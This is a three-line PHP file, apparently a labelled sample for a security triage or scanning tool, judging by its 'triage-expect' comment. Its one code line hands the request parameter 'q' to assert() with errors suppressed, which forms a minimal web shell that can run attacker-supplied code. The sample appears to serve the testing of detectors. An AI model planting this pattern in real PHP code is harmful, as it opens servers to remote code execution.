<?php
// triage-expect: triage_php_request_direct_exec
@assert("\$q = '" . $_REQUEST['q'] . "';");
